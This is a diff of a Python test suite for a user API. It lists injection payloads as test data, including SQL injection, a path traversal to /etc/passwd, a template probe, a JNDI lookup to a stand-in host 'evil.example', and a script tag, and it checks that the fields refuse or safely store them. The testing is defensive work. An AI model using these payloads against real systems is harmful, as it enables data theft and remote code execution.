@@ -14,12 +14,13 @@ from natalis.testing.http_api import ADA, Api
 JSON = {"Content-Type": "application/json"}
 USER_FIELDS = ["firstName", "lastName", "email", "birthdayDate", "timezone", "locale", "leapDay"]
 NAMES = {"firstName", "lastName"}
+TRAVERSAL = "../../etc/passwd"
 INJECTIONS = [
     "Robert'); DROP TABLE users;--",
     '" OR 1=1 --',
     "' UNION SELECT secret FROM tokens --",
     "%00",
-    "../../etc/passwd",
+    TRAVERSAL,
     "{{7*7}}",
     "${jndi:ldap://evil.example/a}",
     "<script>alert(1)</script>",
@@ -140,17 +141,19 @@ async def test_control_characters_and_endless_texts_are_refused(
         assert_refused(await api.client.request(*user_request, json=ADA | {field: value}), field)
 
 
-@pytest.mark.parametrize("field", [field for field in USER_FIELDS if field not in NAMES])
-async def test_sql_and_html_are_refused_where_they_cannot_be_right(
-    api: Api, user_request: tuple[str, str], field: str
-) -> None:
+@pytest.mark.parametrize("field", USER_FIELDS)
+async def test_sql_and_html_are_refused_in_every_field(api: Api, user_request: tuple[str, str], field: str) -> None:
     for value in INJECTIONS:
+        if field in NAMES and value is TRAVERSAL:
+            continue  # a name may hold a slash, `a/l Kumar`, and none ever becomes a path
         assert_refused(await api.client.request(*user_request, json=ADA | {field: value}), field)
 
 
+@pytest.mark.parametrize(
+    "value", ["O'Neil", 'Henry "Hank"', "a/l Kumar", "Núñez & Söhne", "Smith-Jones, Jr.", "(née X)", TRAVERSAL]
+)
 @pytest.mark.parametrize("field", sorted(NAMES))
-@pytest.mark.parametrize("value", INJECTIONS)
-async def test_sql_and_html_in_a_name_are_letters_like_any_other(api: Api, field: str, value: str) -> None:
+async def test_what_is_odd_in_a_name_is_letters_like_any_other(api: Api, field: str, value: str) -> None:
     user = await api.add(**{field: value})
 
     found = await api.client.get(f"/user/{user['id']}")
